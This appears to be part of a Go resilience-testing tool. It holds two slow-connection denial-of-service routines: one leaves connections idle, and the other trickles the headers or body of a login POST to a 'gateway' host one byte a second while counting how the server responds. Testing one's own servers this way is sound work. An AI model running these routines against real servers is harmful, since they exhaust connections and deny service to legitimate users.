package main

import (
	"context"
	"errors"
	"fmt"
	"math/rand/v2"
	"net/http"
	"time"
)

// idle keeps a connection without a request for 1 to 3 s after its first answer, and opens
// the next one.
func (a *attack) idle(ctx context.Context, connection int) {
	for ctx.Err() == nil {
		until := time.Now().Add(time.Second + rand.N(2*time.Second))
		c := httpConn{address: a.address, from: a.attacker(connection, "", "").from}
		status, _, err := c.do(http.MethodGet, "/", "", nil)
		switch {
		case err != nil:
			err = fmt.Errorf("%s: %w", noResponse, err)
		case status != http.StatusNotFound:
			err = fmt.Errorf("status %d", status)
		}
		a.count(err)
		time.Sleep(time.Until(until)) // even if the server closes the connection
		c.close()
	}
}

// slow sends one byte a second, of the headers or of the body, for as long as the server
// waits.
func (a *attack) slow(ctx context.Context, connection int) {
	begin := "POST /api/session/login/ HTTP/1.1\r\nHost: gateway\r\nContent-Type: application/json\r\n"
	if connection%2 == 0 {
		begin += "Content-Length: 1000\r\n\r\n{"
	} else {
		begin += "X-Padding: "
	}
	for ctx.Err() == nil {
		c := httpConn{address: a.address, from: a.attacker(connection, "", "").from}
		err := c.dial()
		if err != nil {
			a.count(fmt.Errorf("%s: %w", noResponse, err))
			time.Sleep(time.Second)
			continue
		}
		for next := begin; err == nil && ctx.Err() == nil; next = " " {
			_, err = c.conn.Write([]byte(next))
			time.Sleep(time.Second)
		}
		a.count(errors.New("closed by the server"))
		c.close()
	}
}
